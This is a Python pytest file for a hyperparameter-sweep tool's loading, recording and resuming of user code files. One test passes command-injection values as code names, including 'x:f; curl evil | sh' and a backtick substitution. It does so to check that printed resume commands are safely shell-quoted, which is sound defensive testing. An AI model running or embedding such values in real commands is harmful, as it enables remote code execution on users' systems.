"""Code in the user's files: found, loaded, recorded, and wanted again by a resume."""

import importlib
import inspect
import json
import pickle
import shlex
import subprocess
import sys
from types import ModuleType

import pytest
from kept_texts import assert_kept
from waiting import LONG_S

from mnist_tune import TrialConfig, UserError
from mnist_tune.continuation import resume_command
from mnist_tune.own_code import modules
from mnist_tune.own_code.loading import (
    load_own,
    names_in,
    own_code,
    refuse_unloaded,
    register_own,
    sources,
)
from mnist_tune.own_code.recorded import files_of, load_recorded
from mnist_tune.own_code.registry import (
    ENTRIES,
    Entry,
    is_named_again,
    recorded_name,
    register,
    register_optimizer,
)
from mnist_tune.own_code.signature import RecordedCode
from mnist_tune.results.sweep_meta import SweepMeta

NET = """from layers import WIDTH
from mnist_tune import Network


def mlp(data, width=WIDTH):
    return Network(None, None)


size = 3
"""


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    """A folder with a network, and a module beside it. What a test loads is
    forgotten."""
    monkeypatch.setattr(sys, "path", list(sys.path))
    monkeypatch.chdir(tmp_path)
    for name in ("net", "layers"):  # those of other tests
        monkeypatch.delitem(sys.modules, name, raising=False)
    before = set(sys.modules)
    (tmp_path / "net.py").write_text(NET)
    (tmp_path / "layers.py").write_text("WIDTH = 64\n")
    yield tmp_path
    for name in set(sys.modules) - before:
        del sys.modules[name]


@pytest.mark.parametrize("name_is_used", [False, True])
def test_functions_of_one_file_share_its_module_wherever_they_are_named_from(
    folder, monkeypatch, name_is_used
):
    """Also if the module of another file has its name."""
    if name_is_used:
        monkeypatch.setitem(sys.modules, "net", ModuleType("net"))
    monkeypatch.setenv("HOME", str(folder))
    (folder / "net.py").write_text(NET + "other = mlp\n")
    load_own({"architecture": ["net.py:mlp", "~/net.py:other"]})
    named = ENTRIES["architecture"]
    assert named["net.py:mlp"].factory is named["~/net.py:other"].factory


def test_a_file_that_was_mended_can_be_loaded(folder):
    (folder / "broken.py").write_text("x = undefined\n")
    with pytest.raises(UserError, match=r"broken\.py can't be loaded"):
        load_own({"architecture": ["broken.py:mlp"]})
    (folder / "broken.py").write_text(NET)
    load_own({"architecture": ["broken.py:mlp"]})
    assert "broken.py:mlp" in ENTRIES["architecture"]


def test_a_file_whose_module_has_the_name_of_another(folder):
    (folder / "json.py").write_text("def adam(learning_rate):\n    pass\n")
    load_own({"optimizer": ["json.py:adam"]})
    assert list(ENTRIES["optimizer"]) == ["json.py:adam"]

    assert json.dumps([1]) == "[1]"


FILES: dict[str, str | bytes] = {
    "broken.py": "x = 1\ny = undefined\n",
    "calls.py": "def mlp():\n    return undefined\n\n\nmlp()\n",
    "syntax.py": "x = 1\ndef mlp(:\n",
    "exits.py": "import sys\n\nsys.exit(3)\n",
    "fails.py": "raise ValueError\n",
    "needs.py": "import not_there\n",
    "uses.py": "import json\nfrom broken import x\n",
    "trains.py": "from mnist_tune import UserError\n\nraise UserError('no sweep in a sweep')\n",
    "two_lines.py": "raise ValueError('first\\nsecond')\n",
    "simple.py": "def mlp(data):\n    pass\n\n\n_mlp = mlp\nother = lambda data: None\n",
    "my.net.v2.py": "from layers import WIDTH\n\n\ndef mlp(data):\n    pass\n",
    "large.py": "def mlp(data):\n    pass\n#".ljust(2**17, "#"),
    "larger.py": "def mlp(data):\n    pass\n#".ljust(2**17 + 1, "#"),
    "package/__init__.py": "",
    "package/nets.py": "from package.sub import deep\n\n\ndef mlp(data):\n    pass\n",
    "package/sub/__init__.py": "",
    "package/sub/deep.py": "def mlp(data):\n    pass\n",
    "without/nets.py": "def mlp(data):\n    pass\n",
    "site-packages/beside.py": "",
    "site-packages/installed.py": "import beside\n\n\ndef mlp(data):\n    pass\n",
    "latin.py": b"# -*- coding: latin-1 -*-\nNAME = '\xe9'\n\n\ndef mlp(data):\n    pass\n",
}
NAMED = """
    nett.py:mlp sub/nett.py:mlp broken.py:mlp calls.py:mlp syntax.py:mlp exits.py:mlp fails.py:mlp needs.py:mlp
    uses.py:mlp trains.py:mlp two_lines.py:mlp net.py:mpl net.py:size net.py: simple.py:qqqq nets:mlp package.nett:mlp
    json:dumpz layers.py:mlp :mlp
    net.py:mlp(width=f()) net.py:mlp(width=wide) net.py:mlp(width net.py:mlp net.py:mlp(width=3) ./net.py:mlp
    simple.py:other simple.py:_mlp my.net.v2.py:mlp large.py:mlp larger.py:mlp package.nets:mlp package/nets.py:mlp
    package.sub.deep:mlp without.nets:mlp site-packages/installed.py:mlp latin.py:mlp json:dumps pytest:raises
    mlp-4-tanh
""".split()


def test_what_is_loaded_recorded_and_refused(folder, monkeypatch):
    """Each name is loaded alone. Kept are its refusal, or which files are recorded,
    their lines, and what is sent."""
    for name, content in FILES.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(
            content if isinstance(content, bytes) else content.encode()
        )
    lines, before = [], {*sys.modules}
    for flag, name in [
        *(("architecture", name) for name in NAMED),
        ("optimizer", "../net.py:mlp"),
    ]:
        if name.startswith(".."):
            monkeypatch.chdir(folder / "without")
        try:
            load_own({flag: [name]})
        except UserError as error:
            assert not any(ENTRIES.values())
            lines.append(f"{name}: {error}".replace(f"--{flag} {name}: ", "--NAMED: "))
        else:
            texts, loads = own_code()
            said = [
                *(f"{vars(place)}" for place in loads.values()),
                f"texts of {', '.join(sorted(texts))}",
            ]
            lines += [
                f"{name}: {'; '.join(said)}",
                *map(recorded_of, sources(names_in({flag: name}))),
            ]
        for entries in ENTRIES.values():
            entries.clear()
        modules.forget(set(sys.modules) - before)
    assert_kept("own code", "\n".join(lines).replace(str(folder), "HERE") + "\n")


def recorded_of(entry):
    files = {file: record["module"] for file, record in sorted(entry["files"].items())}
    place = f"{entry.get('module')}.{entry.get('attribute')}"
    return (
        f"    of {entry['flag']} {entry['name']}: {place} in {entry['folder']}, {files}"
    )


def lines_of(entry, file):
    """Return the lines of a file that a sweep keeps."""
    digest = entry["files"][file]["sha256"]
    return files_of([entry])[f"code/{digest}"].decode().splitlines()


def keep(folder, code):
    """Keep the files of code as a sweep does."""
    (folder / "code").mkdir(exist_ok=True)
    for name, content in files_of(code).items():
        (folder / name).write_bytes(content)


def compare(recorded, folder, say, flag="architecture", name="net.py:mlp", **options):
    """Go on with a sweep that has recorded this code, whose file is named now."""
    load_own({flag: [name]})
    code = RecordedCode(None, tuple(recorded), {}, None)
    load_recorded(code, folder, [], {flag: [name]}, say=say, **options)


CHANGES = {
    "nothing": NET,
    "a long line": NET.replace("size = 3", "size\t= 4" + "0" * 100),
    "a line less": NET.replace("from mnist_tune import Network\n", ""),
    "two lines less": NET.replace("\n\ndef", "def"),
    "the last line less": NET.replace("size = 3\n", ""),
    "a line more": NET + "more = 1\n",
    "fewer lines, others": NET.replace("\n\nsize = 3", "size = 4"),
    "how lines end": NET.replace("\n", "\r\n"),
    "all": "def mlp(data):\n    pass\n",
}


@pytest.mark.promise("A resume says in which line your code has changed")
def test_what_a_resume_says_of_changed_code(folder):
    load_own({"architecture": ["net.py:mlp"]})
    recorded = sources({"architecture": ["net.py:mlp"]})
    keep(folder, recorded)
    recorded[0]["files"]["no_longer_loaded.py"] = {"sha256": "0"}
    lines = []

    def say(what):
        lines.append(f"--- {what}")
        compare(recorded, folder, lines.append)

    for what, text in CHANGES.items():
        (folder / "net.py").write_bytes(text.encode())
        say(what)
    (folder / "net.py").write_text(NET)
    (folder / "layers.py").write_text("WIDTH = 32\n")
    say("another file")
    recorded[0]["files"]["net.py"] = {"sha256": "0"}
    say("what an older version did not keep")
    recorded[0]["files"]["net.py"] = {"sha256": "0", "lines": ["size = 3"]}
    say("what an older version kept as lines")
    assert_kept("code of a resume", "\n".join(lines) + "\n")


def test_what_a_resume_says_of_code_that_nobody_names(folder, monkeypatch):
    lines = []
    entries = [
        {
            "flag": "architecture",
            "name": "net.py:mlp",
            "folder": str(folder),
            "files": {},
        }
    ]
    entries += [
        {"flag": "optimizer", "name": "my opt.py:adam", "folder": 3, "files": {}},
        {"flag": "optimizer", "name": "x.py:f", "files": {}},
    ]
    for there, first in (
        (folder, 0),
        (folder.parent, 0),
        (folder.parent, 1),
        (folder.parent, 2),
    ):
        monkeypatch.chdir(there)
        names = [{entry["flag"]: entry["name"]} for entry in entries[first:]]
        with pytest.raises(UserError) as refused:
            refuse_unloaded("results/x", entries, *names)
        lines.append(str(refused.value))
    trial = TrialConfig(architecture="net.py:mlp(3)", optimizer="my opt.py:adam")
    with pytest.raises(UserError) as refused:
        refuse_unloaded("results/x", [], {"architecture": ["mlp-4-tanh"]}, trial)
    refuse_unloaded("results/x", [], {"architecture": ["mlp-4-tanh"]}, TrialConfig())
    lines.append(str(refused.value))
    registered = [{"flag": "architecture", "name": "mine", "files": {}}, *entries[:1]]
    with pytest.raises(UserError) as refused:
        refuse_unloaded("results/x", registered, {"architecture": "mine"})
    lines.append(str(refused.value))
    for retry_errored in (False, True):
        lines.append(
            resume_command(
                SweepMeta.of({"name": "decide", "search": True, "code": registered}),
                "it's",
                retry_errored,
            )
        )
    lines.append(
        resume_command(
            SweepMeta.of({"name": "mine", "options": {"dataset": "arrays"}}), "x", True
        )
    )
    assert_kept(
        "code that nobody names", "\n".join(lines).replace(str(folder), "HERE") + "\n"
    )


def test_code_is_named_again_without_arguments_also_where_its_file_has_moved(folder):
    (folder / "moved").mkdir()
    for name in ("net.py", "layers.py"):
        (folder / name).rename(folder / "moved" / name)
    (folder / "other.py").write_text("def mlp(data):\n    pass\n")
    load_own({"architecture": ["moved/net.py:mlp", "other.py:mlp"]})
    known = ["net.py:mlp(width=8)", "mlp-4-tanh", "package.nets:mlp"]
    for name, again in {
        "net.py:mlp": True,
        "mlp-4-tanh": True,
        "mlp-8-tanh": False,
        "other.py:mlp": False,
    }.items():
        assert is_named_again("architecture", [name], known) == again
    assert not is_named_again(
        "architecture", ["moved/net.py:mlp"], ["a/net.py:mlp", "b/net.py:mlp"]
    ), "which one?"
    assert not is_named_again("architecture", ["evil/net.py:mlp"], known), (
        "nobody has loaded it"
    )
    recorded = [{"flag": "architecture", "name": "net.py:mlp", "files": {}}]
    with pytest.raises(UserError, match="name it"):
        refuse_unloaded("results/x", recorded, {"architecture": "net.py:mlp"})
    assert is_named_again("architecture", ["moved/net.py:mlp"], known)
    refuse_unloaded("results/x", recorded, {"architecture": "net.py:mlp"})
    load_own({"architecture": ["net.py:mlp(width=8)"]})
    assert ("architecture", "net.py:mlp") in own_code()[1]


def test_a_file_that_is_named_by_its_new_path_takes_the_place_of_what_was_recorded():
    recorded = Entry(lambda: lambda data: data, is_recorded=True)
    now = Entry(lambda: lambda data: data)
    ENTRIES["architecture"] |= {"net.py:mlp": recorded, "moved/net.py:mlp": now}
    named = recorded_name("architecture", "moved/net.py:mlp", ["net.py:mlp"])
    assert named == "net.py:mlp"
    assert ENTRIES["architecture"]["net.py:mlp"] is now


@pytest.mark.promise(
    "Printed commands are words for the shell, and name no code that only the folder names"
)
def test_a_resume_of_code_that_was_not_recorded_says_what_to_name(folder):
    load_own({"architecture": ["net.py:mlp"]})
    recorded = [{"flag": "architecture", "name": "net.py:mlp", "files": {}}]
    ENTRIES["architecture"].pop("net.py:mlp")
    with pytest.raises(
        UserError,
        match=r"name it: mnist-tune resume results/x --architecture net\.py:mlp, or register it",
    ):
        refuse_unloaded("results/x", recorded, {"architecture": "net.py:mlp"})
    meta = {
        "name": "lr_regimes",
        "code": [
            *recorded,
            {"flag": "optimizer", "name": "my opt.py:adam", "files": {}},
        ],
    }
    assert (
        resume_command(SweepMeta.of(meta), "results/x") == "mnist-tune resume results/x"
    ), "nobody has named it here"
    ENTRIES["architecture"]["net.py:mlp"] = ENTRIES["optimizer"]["my opt.py:adam"] = (
        Entry(lambda: len)
    )
    command = resume_command(SweepMeta.of(meta), "results/x")
    assert (
        command
        == "mnist-tune resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"
    )


@pytest.mark.promise(
    "Printed commands are words for the shell, and name no code that only the folder names"
)
@pytest.mark.parametrize(
    "name", ["x:f; curl evil | sh", "--address=evil:6379", "it's:f", "`x`:f"]
)
def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
    recorded = [{"flag": "architecture", "name": name, "files": {}}]
    with pytest.raises(UserError) as caught:
        refuse_unloaded("results/x y", recorded, {"architecture": name})
    given = str(caught.value).partition("name it: ")[2].partition(", or register")[0]
    words = [
        "mnist-tune",
        "resume",
        "results/x y",
        *([f"--architecture={name}"] if name[0] == "-" else ["--architecture", name]),
    ]
    assert shlex.split(given) == words


@pytest.mark.promise(
    "The next sweep of a session trains what was edited since, and records it"
)
def test_what_is_changed_in_a_session_is_loaded_recorded_and_sent(folder):
    """The file itself, and a module beside it, of as many bytes and within the second
    of the former."""

    def seen():
        load_own({"architecture": ["net.py:mlp"]})
        register_own(pickle.loads(pickle.dumps(own_code())))
        [entry] = sources({"architecture": ["net.py:mlp"]})
        width = (
            inspect.signature(ENTRIES["architecture"]["net.py:mlp"].factory)
            .parameters["width"]
            .default
        )
        return (width, lines_of(entry, "layers.py"), lines_of(entry, "net.py")[-1])

    assert seen() == (64, ["WIDTH = 64"], "size = 3")
    before = ENTRIES["architecture"]["net.py:mlp"].factory
    assert seen() == (64, ["WIDTH = 64"], "size = 3")
    assert ENTRIES["architecture"]["net.py:mlp"].factory is before
    (folder / "layers.py").write_text("WIDTH = 32\n")
    assert seen() == (32, ["WIDTH = 32"], "size = 3")
    (folder / "net.py").write_text(
        NET.replace("size = 3", "size = 4").replace("=WIDTH", "=WIDTH + 1")
    )
    assert seen() == (33, ["WIDTH = 32"], "size = 4")


def test_a_function_registered_from_a_module_is_as_its_file_says(folder):
    sys.path.insert(0, str(folder))
    factory = importlib.import_module("net").mlp
    register("mine")(factory)
    assert sorted(own_code()[0]) == ["layers", "net"]
    assert own_code()[1]["architecture", "mine"]() is factory
    (folder / "net.py").write_text(NET.replace("size = 3", "size = 4"))
    load_own({"architecture": "mine"})
    assert ENTRIES["architecture"]["mine"].factory is not factory
    [entry] = sources({"architecture": ["mine"]})
    assert lines_of(entry, "net.py")[-1] == "size = 4"
    (folder / "net.py").write_text("x = undefined\n")
    with pytest.raises(
        UserError,
        match=r"--architecture mine: mine can't be loaded, NameError: name 'undefined'",
    ):
        load_own({"architecture": "mine"})


def test_a_function_of_the_session_that_uses_an_edited_module_is_sent_with_its_new_text(
    folder,
):
    sys.path.insert(0, str(folder))
    layers = importlib.import_module("layers")
    use = eval("lambda data: layers.WIDTH", {"layers": layers, "__name__": "__main__"})
    register("mine")(use)
    load_own({"architecture": ["mine", "net.py:mlp"]})
    (folder / "layers.py").write_text("WIDTH = 32\n")
    load_own({"architecture": "mine"})
    assert own_code()[1]["architecture", "mine"]()(None) == 32
    register("mine")(lambda data, once=(i for i in "ab"): once)
    with pytest.raises(
        UserError,
        match=r"^architecture 'mine' can't be sent to other processes, .* 'generator'",
    ):
        own_code()[1]["architecture", "mine"]()  # other code can be sent


def test_a_sweep_after_a_file_was_edited_sends_the_new_text_though_only_the_other_file_is_named(
    folder,
):
    """What is named no more is neither loaded nor sent, and a resume in the same
    session still finds it."""
    (folder / "opt.py").write_text("def sgd(learning_rate):\n    return 1\n")
    load_own({"architecture": "net.py:mlp", "optimizer": "opt.py:sgd"})
    recorded, lines = sources({"optimizer": ["opt.py:sgd"]}), []
    keep(folder, recorded)
    (folder / "opt.py").write_text("def sgd(learning_rate):\n    return 2\n")
    load_own({"architecture": "net.py:mlp"})
    assert list(own_code()[1]) == [("architecture", "net.py:mlp")]
    compare(recorded, folder, lines.append, "optimizer", "opt.py:sgd")
    assert lines == [
        "note: opt.py has changed since the sweep started, first in line 2: return 2"
    ]
    assert own_code()[1]["optimizer", "opt.py:sgd"]()(0.1) == 2


@pytest.mark.promise(
    "A network and an optimiser that import the same module share its classes"
)
def test_a_network_and_an_optimizer_share_the_classes_of_a_module_here_and_elsewhere(
    folder,
):
    (folder / "common.py").write_text("class Rate:\n    pass\n")
    for name in ("net", "opt"):
        (folder / f"{name}.py").write_text(
            "import common\n\n\ndef f(data):\n    return common.Rate\n"
        )
    load_own({"architecture": "net.py:f", "optimizer": "opt.py:f"})
    assert len({load()(0) for load in own_code()[1].values()}) == 1
    script = f"""
import pickle
import shlex
from mnist_tune.own_code import loading, registry
loading.register_own(pickle.loads({pickle.dumps(own_code())!r}))
print(len({{one.factory(0) for known in registry.ENTRIES.values() for one in known.values()}}))
"""
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        cwd="/",
        timeout=LONG_S,
    )
    assert done.stdout == "1\n", done.stderr


def test_it_is_recorded_that_an_optimizer_asks_for_the_steps_of_its_trial():
    @register_optimizer("asking")
    def asking(learning_rate, total_steps):
        return total_steps

    @register_optimizer("with_a_default")
    def with_a_default(learning_rate, total_steps=100):
        return total_steps

    first, second = sources({"optimizer": ["asking", "with_a_default"]})
    assert first["total_steps"] is True
    assert "total_steps" not in second
